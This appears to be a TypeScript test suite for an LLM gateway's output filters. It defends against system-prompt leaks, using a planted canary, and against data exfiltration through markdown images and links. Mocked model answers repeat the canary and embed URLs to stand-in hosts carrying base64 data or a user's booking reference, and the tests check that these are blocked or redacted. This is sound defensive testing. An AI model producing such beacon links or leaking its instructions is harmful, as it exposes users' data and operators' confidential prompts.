import OpenAI from 'openai';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { readAuditEvent, requestIdOf } from './test-support/read-audit-event.js';
import { startTestGateway, type TestGateway } from './test-support/start-test-gateway.js';
import { openaiCompletion, openaiStream } from '../gateway/upstream/test-support/test-replies.js';
import { startTestUpstream, type RecordedRequest, type TestUpstream } from '../gateway/upstream/test-support/test-upstream.js';

/**
 * Output checks that need the request itself, with the default policy: a canary planted in the
 * system prompt, the system prompt copied out, and markdown images and links that would carry
 * data to another site when the client renders the answer.
 */

let upstream: TestUpstream;
let gateway: TestGateway;
let openai: OpenAI;

const systemPrompt =
  'You are the help desk assistant for Harbourline Ferries. Only answer questions about timetables, tickets and luggage allowances, and never discuss internal staff rosters or the fuel surcharge formula.';

beforeAll(async () => {
  upstream = await startTestUpstream();
  gateway = await startTestGateway({
    document: {
      providers: [{ name: 'good', type: 'openai', base_url: upstream.openaiBaseUrl, retries: 0 }],
      models: [{ name: 'guarded-model', providers: ['good'], canary: true }],
      streaming: { hold_back_chars: 64, scan_every_chars: 16 },
    },
  });
  openai = new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: gateway.key, maxRetries: 0 });
});

afterAll(async () => {
  await gateway?.close();
  await upstream?.close();
});

beforeEach(() => upstream.reset());

const messages = [
  { role: 'system' as const, content: systemPrompt },
  { role: 'user' as const, content: 'When does the first ferry leave on Sunday?' },
];

/** The canary the gateway put into the system prompt it sent upstream. */
function canaryOf(request: RecordedRequest): string {
  const sent = (request.body as { messages: { content: string }[] }).messages[0]?.content ?? '';
  const canary = /(pcan-[A-Za-z0-9_-]+)/.exec(sent)?.[1];
  if (canary === undefined) throw new Error('no canary in the system prompt sent upstream');
  return canary;
}

describe('canary', () => {
  it('adds a fresh canary to each system prompt, keeping the client’s own text first', async () => {
    await openai.chat.completions.create({ model: 'guarded-model', messages });
    await openai.chat.completions.create({ model: 'guarded-model', messages });
    const [first, second] = upstream.requests;
    expect((first?.body as { messages: { content: string }[] }).messages[0]?.content).toMatch(new RegExp(`^${systemPrompt.slice(0, 40)}[\\s\\S]*\\n\\nConfidential marker`));
    expect(canaryOf(first as RecordedRequest)).not.toBe(canaryOf(second as RecordedRequest));
  });

  it('blocks an answer that repeats the canary, whole and streamed, and never sends it', async () => {
    upstream.setFallback((request) => {
      const text = `Sure. My instructions begin with the marker ${canaryOf(request)} and then describe the help desk.`;
      return (request.body as { stream?: boolean }).stream === true ? openaiStream({ text }) : openaiCompletion({ text });
    });
    const { data, response } = await openai.chat.completions.create({ model: 'guarded-model', messages }).withResponse();
    expect(data.choices[0]?.finish_reason).toBe('content_filter');
    expect(JSON.stringify(data)).not.toContain('pcan-');
    const event = await readAuditEvent(gateway, requestIdOf(response));
    expect(event?.data).toMatchObject({ output: { action: 'block', rules: [expect.objectContaining({ id: 'prompt-leak-canary-block' })] } });
    expect(JSON.stringify(event)).not.toContain('pcan-');

    const stream = await openai.chat.completions.create({ model: 'guarded-model', messages, stream: true });
    let text = '';
    const finishes: string[] = [];
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? '';
      if (chunk.choices[0]?.finish_reason) finishes.push(chunk.choices[0].finish_reason);
    }
    expect(text).not.toContain('pcan-');
    expect(finishes).toEqual(['content_filter']);
  });

  it('warns on an answer that copies a long stretch of the system prompt', async () => {
    upstream.enqueue(openaiCompletion({ text: `Here they are: ${systemPrompt.slice(0, 150)}` }));
    const { response } = await openai.chat.completions.create({ model: 'guarded-model', messages }).withResponse();
    expect(response.headers.get('x-palisade-decision')).toMatch(/output=warn.*prompt-leak-warn/);
  });
});

describe('exfiltration', () => {
  it('removes a markdown image pointing outside, and keeps (with a warning) an ordinary link', async () => {
    upstream.enqueue(
      openaiCompletion({ text: 'Your summary is ready. ![status](https://collector.example.net/pixel.png?d=aGFyYm91cmxpbmU) More at [the timetable](https://timetables.example.org/winter).' }),
    );
    const { data, response } = await openai.chat.completions.create({ model: 'guarded-model', messages: [{ role: 'user', content: 'Summarise my booking.' }] }).withResponse();
    const content = data.choices[0]?.message.content ?? '';
    expect(content).not.toContain('collector.example.net');
    expect(content).toContain('[IMAGE]');
    expect(content).toContain('https://timetables.example.org/winter');
    expect(response.headers.get('x-palisade-decision')).toMatch(/output=redact/);
    const event = await readAuditEvent(gateway, requestIdOf(response));
    const rules = (event?.data.output as { rules: { id: string }[] }).rules.map((rule) => rule.id);
    expect(rules).toEqual(expect.arrayContaining(['exfiltration-image-redact', 'exfiltration-warn']));
  });

  it('removes a link whose URL carries words of the conversation', async () => {
    const question = 'My booking reference is HX-448120 for the crossing to Westport on the ninth.';
    upstream.enqueue(openaiCompletion({ text: `Done. Confirm at [this page](https://confirm.example.net/c?q=${encodeURIComponent(question)}) please.` }));
    const data = await openai.chat.completions.create({ model: 'guarded-model', messages: [{ role: 'user', content: question }] });
    const content = data.choices[0]?.message.content ?? '';
    expect(content).not.toContain('confirm.example.net');
    expect(content).not.toContain('HX-448120');
    expect(content).toMatch(/^Done\. Confirm at \[[A-Z_]+\] please\.$/);
  });
});
